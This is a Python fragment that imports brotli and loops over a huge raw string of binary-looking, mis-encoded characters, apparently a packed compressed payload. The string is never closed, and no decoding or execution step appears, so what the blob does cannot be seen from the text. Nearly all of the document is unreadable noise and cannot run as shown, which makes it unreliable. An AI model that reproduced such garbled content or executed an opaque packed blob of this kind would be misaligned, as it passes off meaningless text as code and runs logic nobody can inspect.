import brotli
n=a=0;b=1
for c in r'''{|>esjWjhZ:Wu=%FNLaA!d>'S,5߇RRϹPϋpzIUǹhN;3
ޙ:,Eew2#t;$:4y5NӐ:_U1LҡHΩw܅!>ܷŕڈ٨rF:GAI4yԎU"4`6V+nXkXN٭ktpKG}ͳqjg8(APv֊]+ݤҊq5aB|0H5^Nܵyo/Vx~Dfpc|<waSYiW)ci5?-ie\'5_yOo&z9ePXӚ
>D>maN`!Q2<{еĥ4'-S?ySsUkـz	RFMp0w!.&˴Ɂt)مɵ~Ƈ-v{U>qsTK 68da8$@aAhũ^yiۊ/c"%:`Vµ-	AMS*\ܓx2:B?b{rO	μCߖSKRxѢLxkҳX"  4RÊT19d8ıIGߦt(!zLyͤŠ̓Qi<i\%^a0LċCG)9j4D3Ŗ;QA4;٭2܍
\˨i|NNTtx!/s$qjR/}IsޕWE_~yi-{iIj´f,5p[
)̦f6e?%P|RVCҨn9˄4yqj PA]L˫!n:~K^au4GY&4=HƀC9}Z$:=Ί<69,h(y1CI՟ci7̩ؖ[EJ(4ľ?׎#2E]=g֓"O`	1-rb?ekGg/V$P}am	q(<߸:_?wBSB:-1##1vB`+C;A*g1jݿ]k@޽BPũ*a*8_rǈđZzjΆ.'ZsDr?:'ƪ4ѱųh#l<M8ϦO8/UE5h[:VpJK̶{tIKXZdyD?n\΢nM ڀwMky9.YEMp[ uAL+fI#Tñaj]`vӴ-nKK"bmvey6*D|
_1C0&|أ^֙Ҁ"g8DsMFi"!3i4?~C)ߒܠF(}`L9mHJNQhThrk{ȹ(Ei7P:7#(,5fǏ6U"$H|uK*okؾ!a.u/֣yb.9w|Tˣ<CmvۙSogY%׈L|F¤W͌u
џj8a̜Z,`E47ۀ܋^IJ^è
7YipA{J^^8	_2Y^73OƂ;Qk^E1Ga&+U^8 {|Pk:XA,REy3@"nlG"=MiQч|*F[+5EHbuӮ֔Jix߁s%f:KIwŮmҖ6ݼ[du܅W':EWW!'Rcw,3x>n-<C܉Oi<
yQ.G%Dʍ
!T1<%{,@!}h!t-?En}/vT޲1ev?ޘLaՌxWao+'qҮ4BϦ8Kt>s	YTM#3d@<
0XC)DfR\G_u%\,D{ϾA yN@Q2ٌު̐/
^q((4s#KV-^x{z(GƦz]ZHy'c<|ǐ!x'zб,4ƑbpQN1I<:#fPg7ȽvpnJ?=aK$	ƣ:J<"4vT=
nhin03X!FǌL4WWD12ͫ2WſTl0Ӯh`E8#<M;֯-G&Ӏ#{,D.e7/1G&$ڊjRl0sN,@3jIB܆wĄҲNԵ׍8ų=qh![vBB8K"ՅxEv*YmT8x\$6\5χTZ¢HaAE,r(2(S\4-Vـ'|Q3$N_tW׈*\4/;C˵zɄ;!ȶټc@fiȤ.a\BUhV(\ν	.Lb^;=ͩ8LyWЛhoOk0>!Vh(ͮאQmn
7ȗQstZko^7?{79yWwk;Mewy=N4]Oh+c,Y"}{¯HćSyskK(/r`(<6{dU]N
v&÷>\Cs=fЩ`F
H@*ݶ]l̖p)+!+04oa4'2ՅUG*5^\ú6B#$ka~[c_0o!^hŷpy:0$YDYI2x3$1m(tHҀh"cĿ0ZDsڕƑ3pxN/OF~ԐL[9|e>܍К}jmWLHoJ2E#)fРiGTPJ>˶9Ư>\Y@mW˴̸bӂоwAF57.>Zz6(Л$.uݶU"nZ+.ZwG[νLu_ǅj;mi.HQ۵՞ES1/kvU)Q8?	؊Q׶3
	8uP0rFh|˷HAK,Z>ȗ2qi}=d}͂J*O)Lma֒5[5ȃGkj41i@پ^lb'MXۆNFgc\JYZ(G`Y	{`,8sҿ_ 
U*EӿPf~aeM"hV}=\rpc?kPǢTP;,Vn"e߃4\x'b1[G׻JxMDlCҕi#ɾޔ*ɉLou8FE͜ߙ(|Vҝ;BA(KWGU5(!`h *=zlu}%<OIŚ|W^e gpƲ
)G&QƁ%ھ(t:@?m@@-!KHݢ{W=Pjؚ8e	Cm>"C25Ethl)(Ca?WZ}2nތuٸto4W\;	vK4o\:n7/jLY1Ʋ|΂\:)#1sGC'%J$73#FqKgƑϑIȜHt
8ҳsVGj˶=ȍ@ܥWzٟ{<RV`(rcǍMb._"˻a%p\SS;y{J :Hgr7XI#G-DKg`ݫɀFzsh]l:̋d%P5|Y
bu/ OKYXIx}rtxXWg!S}ʳ
ެ]פdΎGwZ3^6߫ZSMs:QT%u'<wdؗɕHP?\Bbj,f`=hR<nNAݼMt1phim#֕HrUηw٭3͏|adMU/r$_n_DNϺ+b[V1!'+Omhӎ1I	>ÑֱH[ʂc5sەP|Rǫʬ]˧d(_ft}>A܂D#P>&w,=RrƵ5Pq:ʶlѷQ{B/;emiY		9"V|sȉi]e##k"G4Eߊ=.--XxSxqНnՔxfY.v)@Y?zQuV'Z1GHUDL#'H_ϗ(*R811,/uʧ<PIF\{,>WKH˲{Wy3"[z{\(5̱nOw>sVTXF+m*o {`mԦE/ɾUTú_˂ǴV8>͐/e9HŽan#DnJzTtqC
HHpH4:ssv5oj(œ3kݓ!GY%^#OEcDF-Pl~81XֈFTװ7_1g~49X:1qj	RPO֧E_,y7;A*<UиG]GY2%/N~n*R3z7}uܙjgɫfc2$ȲY26Ų&CҌ)&{s"s*wg%O&C?bVI˲M>S/ߓ^B8C1- 4*"+eʄ?y+ƭs֬cˈRL-uDqw$#ćֆߌv<|Keӿ%<6.>
^M+8E{Sa]: î??}2^Bţ6NlHBb[R&lF]
-BhHRһ+^=,DemUG#`Ā?,qYK!.e š2./$	d´½2BPi7̇1+:CroJp+jRw\~(Ȕ)tW;3B^v\	/U^V.ʺOO]y+ɀ=39s߰aK`FU?TΤ)L-tuI
p÷3kq.(`T(3՜Pȫ3ϡ9Wy_&P_ 0|mO>asyG&۵Ż%O{:Nqy[8ȏ#;Ea,v&݇JPunuOڕ	[zժM7unZ*i1xB2\;VNiVʥQV"uO?S2?ͨubW9˹+.L]fBez4EŌI&]XsR"˃Es.Nٮ7)ksO<@5&і϶bUT8+fpw&M̸VM-"CLL"<_dz'2G	Pm2$9]#4̿NRnq.,0M.2>F8;ңLEǥyCR14r%!Y0*VÉEqIODg
X6:q
P-͝²BY<p
)߹3΍.wQjL]9=c8N ?ԅwM&ަ<ikRhJn|EڶۉW|TyA).x1ϣbK^@$aT-8-l@ӛLn)!^T|Bk@a[Ia~q`(S\lz",جڪILԣAnrI_XD48	e[(q)S.EU]M_$lҡvS10S;3S,
cMR	Gf*fҜTv^3X֜@wftѫOVV՞EwκƑ$oAM}+zSF+a-{ûtmޥm y#q,p 9v=^|ĨmDe9P4"Ae+Ɨgޓaofbn248q
9F=hW|M%\ۢʭKWܤ1e=6wl,35`Ģ#+MTFQwbx*sf4MKt^óZö1ыt|;Kܦ Ujׁo?`+t89/&ñҽCr]֬2{JDԿi(pgǬF28g1Jk Fbhe}џdt/
0dtz<wۖέ9qί&(7`D*`ݮko>Yu2*U6%Wz%/Iϒc!_d״uO`InrnAmJaB΃c`PO521O>m'Lu}G,r'bA%Dzl̛!/!A5a2~ h]4e%oӿlxc0l|,L+ˊM&
53?ץp(HM6:G"|9HBhe9s+JjL18mTOAaۮFXzJ~#jiӟ9>]_WQ1]Tܱvѓgf+\+OQܾ4MVyÐV1uB^pGDȹ~,ԠCq'b@r-:xo#3^ha"o([O\=1 qJЉ&A#z]	(sUJ"q^̫8ߧ1y^ )1֓Fxܓ3{W&Af&ژ·_s
d@KNi-0	.ސDvtɬl	X;&oÎڣڝq3çQ,Z1G_0_l9dISTGd&8ӊb{/<Q;zV/b"'b(Wrwogt0Bk=f[uHϭj|/w`\R_;XzTg(vnfsoXcT}V0&iQ{<e$j^eV'(|Z̼!,g	5_> q uԳvn=Rlh` jyVOot:Q!LԋG}_!HNF$S(#G<f h5Ԑk][@۔iT+0١3I_RVz|8ڧw!=Ug{O{rdu*+`b}_[0s,?VJ	$8/ޫAl"=|}%Ǜ.Lci0̸x@4<x?0Vpr(<փ+D2I«@Ɔ{ {^ɺOΩGpqXж݁mܬ]|vJ#DB,Ά\o)T!W+ϻRuؔ/XC.J'n|{.?h:¦Si֑t0erRɴrz:7?JIY-^5B9k؜Vkž>fP'h'mDL}B3Xk.Ǿ/u[$`btRf6OHDoJYsRs~4tMOd]?ͺJbe&$n_wr`&b͌I^'d.vf<Iv._MϨر=3bI\O״VJ^
Z8@$ȵ4ϽcwFf^vYĵ_JF/h\0mʕWeh0G=$DÚWk>ą'/C[W(R{Ͻ7{Nڸ܊$Z748jJ޷?I_7ix-,ȲTn-]ޚ+́qaժ0q aXf2WNFkNw_ă!֐I-G,GݴϹwpa$%7[c˯K4?y+C}}ݻ;20D=`N<l=.Ljn.8wT2Hf]ҩCVn"D=t2 @l/hO	U;%(^zR%ޠAOGnZkȀѳVp܎@1y"qQ
Ԗ_y'=$DRU>J*=ccDxRg):E[ȩ}e*c[Incg36Hq6AS0cCLGMԍiY̓˃T#ҧOhu+vFǋlүEPXH}0ڱ4dĕs\;< 8n4JM!a"{+\S<ͻL]B$̵Ɵ`;OY'Y2_Ó]ۺYi"pҊ<.׼KW xпzqkmC̳cPRƾ8v!@v%W8µHDoWߑeSъtـC	<M`Z>ۦ7Ϳ0O& ҏw_`2e]~Ū;ĞāђENchgfe7Ц}01d+mʰ]ܨ?ĻŜQ8GR$34ҿO;g4ՍJcY1PGhE6s.uP`_UoJh%[YJ^'­U{U-L+͵[NЋӕ־:Qh
eHxd>T_d<$l'MV̀4!ds֧Mgf99	ؖҺ7KcX(қeZ`hV&sVhӲTU<x nԍ,܎cTtgmJŌg]IYhx:7aAxy
]хù\F[-kixg*SEyV)iZvά>!1(J3zV-:bK-dϲ
A
՟޽|d_-WψD~*ܤ\*eU<"Ųfي!Xp+5
_Әȱ azZCM"߼ܞz_2ةq}0tAWGzیM՛c3;@¾'2܄ɪ˩}WP0fBբs;hd}߮Kr\Ubl@-CiNNsS
03b9Um uSf.l{ۘZŬI
sJ,U)}ϺԲ	̿iPĳLow
&O/RtD?VaپM	jYծhX;`6PiWۆȺ"JmaF9ܦYnc)"לU-VW>e[1"c{t/-G1"iCWj}Vع^^US2iYlǨ7. 5ی'V~y7LM(W*e#&zzA8~MG8~V:zvTُ]gbZUy׻eOjRl:^G>ʕġak]T$f~=5G>bjM`ד/@c)K̒ZA.Q57FOsm4`8Ɏ	|ԞN)vv~@>:J?cTr--,f{fDED$ڻ$>΃ٚ1׋\!'f:`blɍ߾;Dw#M]^ƨTp6<FL
'>X4={66/=:Q<m`D?;uqߞӇ-p<;#ǛsNF"U5hJmO'dMuGb}tnɼqW%;9J`uGσDԤfc#H%ٚh|/nQ[E-iʪM̔O0iͷͦЈe4%NEAMMkObÎUUx`A^*XiymֈԽCeL>GZ70=ϴInoS0Y6L-bj#s_?M.S>ֻ 1ΰsf!Љ]ܑqv|pAٰ+1ʫ=؈I،?{ֈt[| f&yr݇wdæ}db+Ѥi܎viHIOw[ǎNSrІq$ǎ4vǀC\Gw(0BA-_دwI%͚&	pw)JjW*sm*B}C<tGEʊW*VMv
mb&/(+e'},okW0~&nZuFG5ɣӾ&ǰS61j_9)4h^PRM8	YTN}D]U	Ozǒ҂?b55DM`hN9}+C*єUK%EC;˼-N!d<%q`#:=_,2"8-jҷޭ6uި_XríIT|D]d8AQd͍>q`IUnք86ҠU{B߹[GEXvbomWՆqNv'e0g$l^<=\Fip`խGyV	iIG5	Kdqwћwts+i١(|x<oRn>ibb^V?|ڻܼsT:AIrpGF0IW(]gW%iĵΒdDI4ɖח11e,M۲s[H*i\@лώɈ8DYzS|U)?%uEQ0\M3	iE@n(&vϕg&V9˜e	zrO30A'sC+=e{Ö
)iއ011fΎ7P\NLٷ=&G-5$[u{Trsy;_s{h}P_q"9ֽk:fE2XԽ%QNB`u9%"@)|onv w?f={OK̦-vaKwwHfkf/<_ɂ/9$/}jG?>,ܮvyO[q-kش!q;+}3	Ƌ!
)HEUQ4)uJb2TD=V	`|G)V%C[nfڦӋur>Sh@VzoawRm-q9oPR+PcȉYW@,fsdw i%1'ڳx`92ҩŹAz3k߷|bS/,>'âjAS78b0z$eeIŤ,<uI#Wz,7-E='!J`d"pRM	['fy60FWP4T~rYOfs}v҆q۹7%W( \يf)axfe,>=ߙkh%Z[\k̠Wi8Yq#4';e]Y{u%[ڄۉ	ɷ@AYHy!mu]zmU&*#J2E/m7I	;j{~áT7{yKhw97yÚ٧3PP*W!=.q?$mK!v`X
w
^Պ}:mcfL`fݓxFDl4	կM;zωnGg:Ggy_+~&pJArSjQg!ؐH13nOC{͟npwC3vN۟Ta]؄SZe&z?Ƃآ!u|)ځ?g`AŢZa)eϝFs޿CD6%Bnn}+qǑ>~pI~cD:8DJwc|.
A}hx`3eޗSctpjf>N;-@ܿMΎwL wpޣ3@\l]ZD"dC|TEٺd)c(pNIDl^pHNfUh1B6CzHLՇ_ykW̖ѣu*i!b8~&Wן"&\][:E6:Lvr~ʞ߬x)ԙk2}Bg5F~݁0_D${}lȗSǢ|ұzLxcw.rMlaاfs qs#D|+2(^g>,R
 !_-%;pI?%YmfnG<dxmO{	yAQ#JuUv}4FFlS\L4Q^b(L{-qֲtYH;	_AFv	\\ߜ%ϵΑr9z@w:T@)]|^K	\uI&okDbvsecVFoZm73דuSg"_L	Jݙ(?`Z6kĜE{V2?ѣZ?('ގrD{]$Æݲ
rT0Jɉl*ζűU|bٽ߱Lx{7ߞP]n@vçzkUo}EaxNJy(n[SV
޻oWC8yeK	V='Rt2HZn%'ۋl@.*[G[5`>TgR4+X±YϺNPQ01=Cȵ-)mWj;Dq+"4Z$#$H.v@4ϲ<[e}׆uȐE~)-äP76k81a%ҧ#۫`6 ؠRc!B[
?c'Θ4yZ˭V?Ί[Eߝ[x}7ո#	~d@q~Z[D=!zV؁77[ivS-;͉BٌCS[!agf7PB={hl*PFF#i((Jp}Tb-+6#Ts9lox6dgjSʤ&e^~AodΛ&PB!X-?'6ϫ̡;YJZ{ zF"$Qx7?P ZKڭQϪ2]Ȯ5)V4M״'ǖk:+&8sf1Iaz<;԰}F<
ӑ!Vs&)ބ@thG*@?TXaN}[u(<'KXʜD&%H~`*Q,0֍!?$-b8|nG{>X}*|*ѥ^-vXYRG[0Y_ۢ[mĬZŕ.7kK
[rl}B!ɧ-mj{/Kƨ-=&CJ5C	\ϼPM&X|v)+͑iWLa}q'ѽ`k= ۻÈ?^ex!|@Gv?Դ9dl&sJۂ~S5=˄nǿe\8xC2K  h7Cz/^=q9m:_#ħ?+Ϸͷ%̇Y+',WYҺb]U5R6A`4*?ll)S(pd܌h];7--NbcGuu$[e3%ح`t9]P̃c/o3VN~l{̇*]"MDq
q7}MK9~8z3MƓ7(bV>?17BV9.8 %kˌA
4.k(1ҧH1l$Ǐk~q2M7Q,7F-IT G/;KcϬ	phQJ'O	3
10;-MILJn.As/D¬}f7CfOլFa=y
U>[1$a'#͘&ш~+^wTj^[).nͲ[YƿDw}xSʠ%q§ގС͖k,+j65Aש,ZYԩMۡ(/8rA!ҳFxtc`9ħ["AO׏v5#i1^odL]Ʀ<4ɢtu30'c; |\-
b6;~{ϥr
2d2OK5~κ׸	?80	[Ԅ1w7lпMQ&,sR# ]SP˶(5KԜ`!pVB7Š`
ױ1w'
aaW
2>3%h7yS˝Ъ̜|P9r*P}פR)>(Զڱh}./BHME0̗F{sAG.S*KP,`
Bȟ+SP\.^PƤhX`q;9d`gC'`F$#N4J3T(%؍f/<8.-$Qiʐq<.yLz\ۗ{@ޏ/e6Ԧ$%vK	")D}cԊvj}R?˯ׅ߉.)NƉ>Z˦2ۊ0IqS|;KnGxK`U>ʟñaWv*D*ܼx-k	ɭ@TǓJ	Q3ԣv=iYM.ŭɦGƭÔ_QYv;	֬'kyEbgm<f
w+KCiÈУ8ei݀	Ҹ*{2j1
[vȭpdu0'a*ʐ ֿݏf[TjzڬW$Ԛ+ˢ1ŦĒNFƀI2ޢ6M'( d4I],9ņ?I,jO]v]w;rhfӪXҧP7n@~9=8{ ׾)ҝtr!:vk;SaKE7wViÊ̈́ *b9b ן#$r lƓF@Usu+[g{L*3e/UP()&g"2m Rݨ
<\*09ql!u*+-xUI`c^/b([;hDϓ#'!ԬBhG@iJ4ӬbXƥvsTp_5Y4%JũaSC.L[s8"dF}٦z6>S޻0$K9 Hǹ?N/8=Db1F[^dTO&B|2vǷEF7NuדP|ƀ
uWܓ,gȎw	X"E,djket_;a/7PԫeF4Q"mEM|H@V+^DU9gܐu^L1AVf C_4TUڵwBQ)E١8
P@aբDDLbʻ>ȵ;$WΡˋCNͽكܔ<dz2ɂ9^<^8(rOfzVȷb8o~LEyq(B=y(|`AX͂qѓԦ\U٭.t>H#We~u$,ԩ;Ֆ4ݟiYg}!	}PyAr4X<.ʪglqB%!n]sg&s0yT:`АN9xݣ	G7s>ޕ!y; 7~)t]sk=t8Ȇ4-:ŋ@<ܛb&w{lԟ4t^M֌#UoK3˃On7Ǜ[Lo.}ͯO~n%3xZ~uuZg7O\D߮o?c
:Њ\|f>ԋgK#Ց:/B!cZ31^I%%;jYREDޝ6܌vn=~YU(U8a)9F0NR6yZڏ/Dm>Z&M!"uEtYjaobS2,WB 4c$I~ݶG1
Fj_Eo0ʨSnY<Y.B; 0jK/ѻYqݥXѷ^ѯ|ݻKpηn[ˣDj6Ii5~72`+ۑg*SXC#ȝi-=Y8JiΧ%g%.cSث6i@Ƿ">Ǉpt"y^)E{Ag\tMu*usC ё0Ud~F7J#Z%:7{"?;6ifۃ.wlQ/t͔խBurdSD'9Hĳ^m*U9x	JT=nJ\bg43b{lבAgsFHbάME6Qyo#t-<{ԿEQ7[Ê%TqmفU?%}
.z̚zHN~+B܀Nä5>ϋaxvۊe98u+)!M@14AƩ*_xK-?4g>EiWƷևd]9Hm7LK\NM#\p[O-NHXұ!e$M$4NuO<BiG6+Q~<'3%<B73<e}٭9e܂Q.®=}Ainz&Pgߡ$W^	ɡOA&EQl]$]U^hFގ	uHt}áqI։X&G`	tOdBswrusXy@Ў:Dʪ$8*N(X3_/Gj:y<LdwP)	.c`I&X]kZ<?~!D%]͝5n*8}aw(yAj$"Y	8ݖUJ`|d!)!BECq+O)Y<ANl'a}@޶QkMw{И-~0	k}n$WI̽`Fٳ1p;E;lǵȊߏxv'-+A%o:5m#A?Jt-666ܲz4"9|iǻPTzWm_0wvhr8u/Fv1wLLidnXxc .dWǖ1V<S.<hCzɶȴyUUҽ3IFߙ[ͩ+6Pkr9;	9X#qӜɌq1Pun+<U"Hs_]~I>f+$8d~F(jp2Şa/;{Wk>YÎʣoyY!ݽ&]@OӢBtl2?Ԕm9ؖեE58SGޤiȯ\ޱK#8Qo3r9VWiwY]=e`4<&QY5c߯6>D0Ȥa4J7l_dŶ}m2xRk<qKp%fc²"j_nS޷V1jSIhѮZh8,Wus4zKl`ɬWP+(%e0}qQ)v#!HWA5ۜ	!_wlRic!fѦs-RԍѦϫMf?ވI*#͵ԭ=gcɜD?|eؑr(kzi9o>Xkbuߞʓ{cnqjгjZv"-[
@\g
>K?EkPƧ_\#0̭Mk-XƵN8RrTkqk}zɶxw+.BzKxBE[
vؾB<$1cwHm[9jOۖ:iqcȠgQtt+ǶFɖfz8lJ7j/{A^˖o91^zIkxZaE]"$~T"*l2@cǂ%{KD	zqruq=>>8ж)*tWpi4#%$h_/$TզH@@jZ}pobsPƛkXpV
R^2K&yݚ3Զ3l(@ا߁i<~zy%-3dhBЀ9J`Ffv3ou͌{EzG|?d{:K q#ٙD%4WSL9W>?l{,*ڹeL56L=8YRlycE63@9H@͢l
[yU1)AAhUf,Z?qM!'ζ]3yЬ $$/ujՓ'j#~S/Х7EDK.ǿBXlU^F} Im	Cu>k_YȘ7nd	ɔ)#bn
2`9\aKX7G}X˛3mΈ :zXt$07i̱	6GdՈ@Ϥ%hGԶpxkm%W*\[ߦW1>Ɍc'U^וWa_-rY'F-n[S4~O¿v:{|YrZھfirj	''/5Q6YkA3e8'~Vl'wջWa{[vES<APDj*VAk3An#
MtLufw""vB#%[%\tb_vgzZ6}ΫˤӰ->tFVxܦVڑ|X/4XqBÇֆ4)_?{	9\).;mnQ/YlcKOz|ALerNw2n]gAx462irJƬj\ .F/	emo^ٕWPW؁8csЯa[%m>pr+04WCX #lSU&W.\,uufi$ӹHɢms/<Γ~qfhťwjk;% XoBqidI{8Gz^\=*7r(AËD2̷Ql$im/g*ǵL1zǿ%jy׍ZL8нY%dи5iHiWJZvهX"~OwP>WrV8
5s-b42It}Y?-&7m8Qr4&5}P}y&H|9n7uǯNuanfe"њ* Gjz6y8r:sӔt^9	\)eZӬgX) [g=@:Mf;,*);Fk+gp|9͙ĖFL/1/GP7((uSoCRzvľPj#jݯ%z|,wp	aO}nxo^Y(/G1+1!~4g*?ϧٰp+?©Wķ߭9vz@H|FO.ƵӚ΢>8Ēcu`kwڃx\йotaP+>f(Cg\-^) eˇ<Ɓ՗3#A>/ĹsLuH=3жlKR0ZֵI5g5ס~h|.Ivb'.N|3'A۝u4Gm!I*iqz0[D75N/jb=XӘwt|۬#QNjeo:55Ƭ@K14Ȥ-ԡb/eF
}J	`QЫ;7-(laEdSO[
:(pXsf{0%_rvxy/;Ōu!<p}>,	JÎb8peR46)a͜Ā֬6YL%oܩ|ׇi=%Т.W:QO-^*WBߖSHaEǼ1ׄms;wFY]ɚ3gOʘs^Ĵ@Q$$1Bf[ڔQ\6ߓXwdҝ6lC2ZK#"=S޼X߁;:>pʱO@^db!,pɗԂȲ!:zt.?5=y
='S3XwVcmؾi8]HbV5kLÉE:28ܦºUI8h
Xo}-ʹe}ȸlfii'C(#	K?4vD]CWCfj̋"{0!LU6Õ35{;g<Ѭ*^|_2n^dSUfovdK߮ԧMYΤQ4Ȗ{Ϲ|zY:[Gjžx˴{	ņӱZNpEX!GZ<Jk=?L:}or{|Sf1ZE4ĠȪNt4fYelJwϭIyUcΩl)XnfS*1P@j%nqR׍UU,Č˭'8@׌NzB!dQKmF1Jd?g>K2Q60)ܝc jԝؽYݤBټΔ.Ǩ84,҇nJcגqIÓPۈܕƺu}Lވt:&ƢE<*;r=ޢ$=,֡AI0
tʐsPFN>@կB@bn^?9tF#ޝ_FXNg,>{Lf׼7bu:3ƀѳh`_'BSüg|+?;˫GFY*hyd/eAZ"¼Cw&glhPáv8 <wNT#9Ø'Ҏyݵ֯/Zπ4
kvC *Rn33+!Y}Eѕc֬"my6A9-S{ܧqdsJ%ݹֻh$ZG{E jU:Υ_MJ?g8{jÕ"b2'^p;gqYJ2ԅxsCA}Mo
Z|"nSCG\:Oz#:]RSbtdJ)|k-yz<ʶaW][!w=n5(:A@֔$\G#eR H
@b {9"Tab[|߄S;Q~+¢Ӊ	.:OX\n͏H%
'
4ɞia?P
}R&r~צBKj~es_ٴN>REQ2m+͞ą
1?C)ʾuʁ3rYռCtMzF@2X,=Qц<\)4XŢ(LulXtoЇ#}Stêl>,Sȋo0+T2Гl2ALPJL 8ǦsSaNX>
|nDօ6Ψ\dKb<9cvĚ90%Qu.xA~NY#'qz݉OZ6ܒfnߊ
BJ]m|;pzԾB\uNaUGdsQ",l1VtYgYڌagÖ(92%`o	na*5c:VEVT|EFއ1=`YŬhBL/dy3W-kǼrr,ɰ%QT?exD"'i7de4|ʢ"n;SR1I1]tf+oB{~pȜ؟(J9Rݘ\u17bxO{kŚc$ymQVSBkZL>5y\%@Kɔ#"?GE\ǟ^ZcO&X}L.mU͝خV#;c>fAבɎ_lJBuQ`?׌v(iϵH8&ƎļIղBhTK+$3,.sAŶ#:4.`kĶ(t5 :z!tW)Qv5F&iR]%I^
8IHm30ZɌc	Z1"?J?THeN=ssfk [Sȁ[ x=lnx}ŕhz٦olkx)hcJʊC?`)uA<ٶ*1<OCv}ŕVL{,DD0R}ٱ`{Ͷ-=t,5йh,qlƍ5_܋/KJO		caz½&4GF>C	n	Uս{ն	ܨSU5_4j-MVȔb;tm@l#~NNۚ	;*Y&DQZSJ?ϸL837~I|B{:m"vUHpXqa԰܂؜ѫ5Qմyi4=500bspxհۛ-~ Ko=O?Ck/7&{?6ZX}BXER"V!LRs7vyx!Y[K)o^4pWRwn͋4ALٸrI<ѯ^~@G6RNZ۔Z-i$w\A?B\`'ӈ	U@|Z <
faR: ֺ5n;\j)W#*5#}y2ٓE^qH9_jIh_>s_5}2ؾ#ժI>BǶsd#B5lV-71IA6܉4IYzețj_}@eA,7\$$vݛRUm
ϔʈfO0+
C%U\28)$y|ΣP}^1Ӧ-	۱D{Wd#i7M2!dρo<3q^gvfϚ&vD#NiURY~rqIqC]ۨ,}M'(&ݲNT`ʹp*M&;dQDM7pݫr9ݦa`$
\tY>9O[ӛVkL2Ȭ˾i߰ÑKّ84G};Q#I;WYQ;9O(kPE=ϭ$AR,"`>I"ݹ2$=M|!L֛nI.{sřRzx6zp,}>+-w0XR=-Y6ufFhèVA y׌V6;YD#Mk$&AԉƖ4}/}R=J`S(7$-spaP_78Q9(ݱ1ۣ 6<9s(/KF8݊ĺ*:zg\Zsl:3tۋ5XπQ`f	&Qr6?el1qo3mcސgMU׼0]TB`ݬϞ2$(Jw*Q`X<؏9V= wpd'm2ML#Oqڢw?g.@N[4=T^ɋ [8̫1~~2>'Wp/fة\8TclioB8Ҝ^ʴ_+Ra9Z]~^RdP=HH6&B./bѫmI/,	z*'g<@P/8ݯ4kZʁ0K:-хrF8Q;}
ߩ5{kp6_l{k2P`%%ã2̬{l3L'1!֭ˍ	TŃJWqIrԧZ}idߋ'ҲM7ϊ]Dt^Tʦιm4TB(+V&#;ܕsE|=#-n_e\M=\B#sd]x.'%GO=תvJBF05.G#BaR&Á(KP\K=Ԁřv0mDME/-R1ylL2i4%#&%/{4߿1;KODhظqe/v1`;Ӕ1clFпg5fed;J6*!DGVdgz$ޓNO3p .$q$HnA'P%UN^n:81Úɬf|;PDp9-v{vq8dWP|zxkEjV3b'HL9ҳ\yh0r%ܾB=kΫϑoP]X\KfYxK0ga~k&872rVgߴ|
eLlmp]fi"ߖVGuq<8Dȇ&kmHZ5ݕ܇%x2!½YrlE@)Ps&%,9IȘF*::[0'mVg+uM~}Km3g&JYB%P+_8V6`%l2N\VXc
lɨWB&Eҷƚ~S>ta\8O	˴jwcWUy+LGpj;2+jJ>Ȏ3EkϞdBCy݌T#!WBϕ>l(Ry)+c&hiTo]fs5	GGq~uUN@->ۧF+h7&mzpj˅v
?b$ؠ׏D,w'@.&H|\|{PƋMZU٪@5rGˉ}*RccuZ6jɜU5٠eVZ5tKnMgtS\RV
ʾ` z\m̽8ħLXx]D:@|113˱3vQPʺŘNJ0۪F=d3q_<}~4C	ws6Dams{isXS`ØARo|
4Px}k_qIDcWNSv5clk3/vڋ]-\`LB
[gʜWNϐW4T4hhg`EosB|'IJbsˇVlgEo5Wkxox`1qDns'hmnF(qX(k;̪XJaQ{Iuf<j!P՞Gf7PPZO,iў"]A=,$~ôh['h	nmd<glsKG6!I!jPu6%ч~Ъ#gЛumIO97˚,8w$?Z_]iT˖C%R5C99Mό+7TjuR	&!ЎdhHklڞfn |[0ƈ>w<CH[Ч-'XLs)>OV_*tn\.JtHa֩$::qD4j*=,|Q֤ESЅRr3b)ټcˮ{O}ԁfCn
״2i6 hw5Rb	ƪjKwyb7gNۧ_EHIy3ѐuhT-3+O+tޒPaƜg|Yխh$ tН
AɿfijlVqO+ZؑX$gIp0)Ҹ2N5ŀIYӈX?sPCO~O2/XZ_*<S׫iR&ˤieIcG5]9&bm7SOs֊̵ϖPY!.Ҟ*ݿ%ʢ̋($do((^[7$` (\z߽ioLX
Ar_,[Ms?qLۂB>'E!S/$5IΫ"ϫz-68g^\9
T^0ƪPȯ k6fܳZ/VTVF"bL?):9^7>tHb{or4JftoJitÓ:8t#Ja̮^K2+GƓ#[OoBn˲Nړ.\uʱb\pyQ3o]rkl7a{HwZD(>+
\`o|,X1bIb85ՠ"avÉB84eq-r '+ŚvÝA~c79]e&ȇ%TG^}=L[M׾y%h]ר^(Đ]Sa7uƮj+ܹ˫n<`2,x}0}W6Q%cK\޿Vv_ȏ/eڱV$
6>PPʥ67Wzu#45D<K8ݴQCeBD݂!ЌFۨnRdoP+NMbsOM$F{.ʃ|ҪC?Vh46/ۣhkfC
ëp/]#a?FUܭoN(-8N-ݖkM-/X̜e(Ճ	̇̀;#ؙ1=Cl3x=:5oTq`!3cǀ}ŽFy-%әUpoִn!8G3D܅٤5}%R~n*',\-Vu3	ևo;iYM"]&S4B\Ēej	45(ҲUUͳ	hM
DGEwX,d;B;'X{
]XlȝНNQ~
!VQayhdq;n%dV1'5hu8't;Xm
f@#ȣܧ|bͰLU'Md+LW`E־iU-@>ZsNO; /"Owq.[cAPu0yǇw7І˔c4?N-=quBCqZ2sjS+SŪ#;͝ȑ)OH~Ȼ:qA,]Lo<]>3؏Wؓ\up3<=|PKPO-yZ{QI> +Z>77iƆn
żY;ytr!>ܞ;&-7ޓaVyښxSGZ'ؽ[!w&ĥzd#,ǃ?h6/R6ŃTޜbϋ}s+`,6|\FǳsjHfǩtCt͔|UDmT%_@UÈc	z
ܟdDni9ؐ4i09=9ݘҠ\ly/	.lك<yj޹PP(SfpR<vhJ{&JK:/nf;?/*QV&ژ֛"ܤly3n_z0?_a"$KX5ݶ<IruM=M8EVtdD4_Ǝ\_GuC߷ԡf$	ҠqLe͍%%+2G4`R.!,5VWȦ"	,+mODjҐƞڮ"fNШբLelCEݬK8g]
a@ebYFiPH"ʮMgn%Ī)!on8o)*"b^rr}5|'˼D'>ZXtIȩ&QѺbu#Jڠ?rõpuwEwh*jxZhTzћ(Tpʡ&tb}!+fʈJAtCy5߅#WQ 6ɲH_ttH^&B}MPޖ[hj7^dӰ>@OSzGLSAS~>.Z
